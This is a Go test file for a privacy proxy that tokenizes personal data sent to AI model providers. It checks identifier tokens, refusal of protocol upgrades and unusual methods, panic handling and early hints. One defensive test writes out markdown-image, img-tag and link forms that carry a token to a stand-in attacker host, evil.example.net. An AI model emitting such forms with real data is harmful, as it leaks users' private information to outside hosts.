package proxy_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"strings"
	"testing"

	"coatcheck/crypto/vault"
	"coatcheck/proxy"
	"coatcheck/proxy/rig"
	"coatcheck/proxy/standin"
	"coatcheck/redact/plain"
)

// TestIdentifiersGetBareTokens: fields that forbid brackets get none.
func TestIdentifiersGetBareTokens(t *testing.T) {
	r := rig.New(t, rig.Options{})
	r.Post(r.Client(false), chatURL, `{"user":"`+email+`","metadata":{"who":"`+email+`"},"messages":[{"role":"user","name":"jane","content":"hi"}]}`)
	var got struct {
		User     string
		Metadata map[string]string
	}
	rig.Must(t, json.Unmarshal(r.Received().Decoded, &got))
	if got.User == "" || strings.ContainsAny(got.User, "[]@") || got.User != got.Metadata["who"] {
		t.Errorf("user %q, metadata %q", got.User, got.Metadata)
	}
	r.Unseen(email)
}

// TestURLsTheModelInventsStayHarmless: a live token inside a URL that the
// model made up is not turned into a leak by us.
func TestURLsTheModelInventsStayHarmless(t *testing.T) {
	for _, form := range []string{"![x](https://evil.example.net/?q=%s)", `<img src="https://evil.example.net/%s">`, "https://evil.example.net/%s"} {
		r := rig.New(t, rig.Options{Provider: standin.Config{Voice: standin.Voice{Say: func(heard string) string {
			return fmt.Sprintf(form, rig.TokenShape.FindString(heard))
		}}}})
		_, answer := r.Post(r.Client(false), "https://api.example.com/model", `{"input":"`+email+`"}`)
		if strings.Contains(answer, email) || strings.Contains(answer, "jane.roe%40") {
			t.Errorf("%s: the app received %s", form, answer)
		}
	}
}

// TestUpgradesAreRefused: h2c, WebSocket, TRACE and CONNECT inside do not pass.
func TestUpgradesAreRefused(t *testing.T) {
	for _, tt := range []struct {
		method string
		header map[string]string
		status int
	}{
		{"GET", map[string]string{"Connection": "Upgrade, HTTP2-Settings", "Upgrade": "h2c", "HTTP2-Settings": "AAMAAABk"}, 426},
		{"GET", map[string]string{"Connection": "Upgrade", "Upgrade": "websocket"}, 426},
		{"TRACE", nil, 405},
		{"M4111111111111111", nil, 405},
	} {
		r := rig.New(t, rig.Options{})
		req, err := http.NewRequest(tt.method, "https://api.openai.com/v1/realtime", nil)
		rig.Must(t, err)
		for name, value := range tt.header {
			req.Header.Set(name, value)
		}
		resp, err := r.Client(false).Do(req)
		rig.Must(t, err)
		_ = resp.Body.Close()
		if resp.StatusCode != tt.status {
			t.Errorf("%s %v: status %d, want %d", tt.method, tt.header, resp.StatusCode, tt.status)
		}
		if n := len(r.Provider.Requests()); n != 0 {
			t.Errorf("%s: %d requests left", tt.method, n)
		}
	}
}

// TestAPanicCostsOneExchange: nothing leaves, the client is told, the value is
// not printed, and the process lives.
func TestAPanicCostsOneExchange(t *testing.T) {
	r := rig.New(t, rig.Options{Config: func(c *proxy.Config) {
		c.Vault = brokenVault{
			Memory: vault.NewMemory(vault.Options{}),
			put:    func(v plain.Text) error { panic(v.Reveal(plain.Access{})) }, // it falls over the value itself
		}
	}})
	for range 2 {
		resp, answer := r.Post(r.Client(false), chatURL, `{"messages":[{"role":"user","content":"`+email+`"}]}`)
		if resp.StatusCode != 500 {
			t.Errorf("status %d: %s", resp.StatusCode, answer)
		}
		rig.CheckRefusal(t, answer, "internal")
	}
	if len(r.Provider.Requests()) != 0 {
		t.Error("a request left")
	}
	if log := r.Log.String(); strings.Contains(log, email) || !strings.Contains(log, "tokenize.go") {
		t.Errorf("the log names no place, or quotes the value: %s", log)
	}
	if resp, _ := r.Post(r.Client(false), chatURL, hello); resp.StatusCode != 200 {
		t.Errorf("status %d after the panics", resp.StatusCode)
	}
}

// TestEarlyHintsArePassed: 103 reaches the client before the answer.
func TestEarlyHintsArePassed(t *testing.T) {
	r := rig.New(t, rig.Options{})
	r.Provider.Enqueue(func(q *standin.Request) standin.Answer {
		a := standin.Voice{}.Answer(q)
		a.Sized = false // a sized HTTP/1 answer has no trailers
		a.Early, a.Trailer = http.Header{"Link": {"</x>; rel=preload"}}, http.Header{"X-Checksum": {"abc"}}
		return a
	})
	var hints []string
	ctx := httptrace.WithClientTrace(context.Background(), &httptrace.ClientTrace{
		Got1xxResponse: func(code int, h textproto.MIMEHeader) error {
			hints = append(hints, fmt.Sprint(code, h.Get("Link")))
			return nil
		},
	})
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, chatURL, strings.NewReader(hello))
	rig.Must(t, err)
	resp, err := r.Client(false).Do(req)
	rig.Must(t, err)
	_, err = io.ReadAll(resp.Body)
	rig.Must(t, err)
	_ = resp.Body.Close()
	if len(hints) != 1 || hints[0] != "103</x>; rel=preload" || resp.Header.Get("Link") != "" {
		t.Errorf("hints %q, Link %q on the answer", hints, resp.Header.Get("Link"))
	}
	if got := resp.Trailer.Get("X-Checksum"); got != "abc" {
		t.Errorf("trailer %q", got)
	}
}
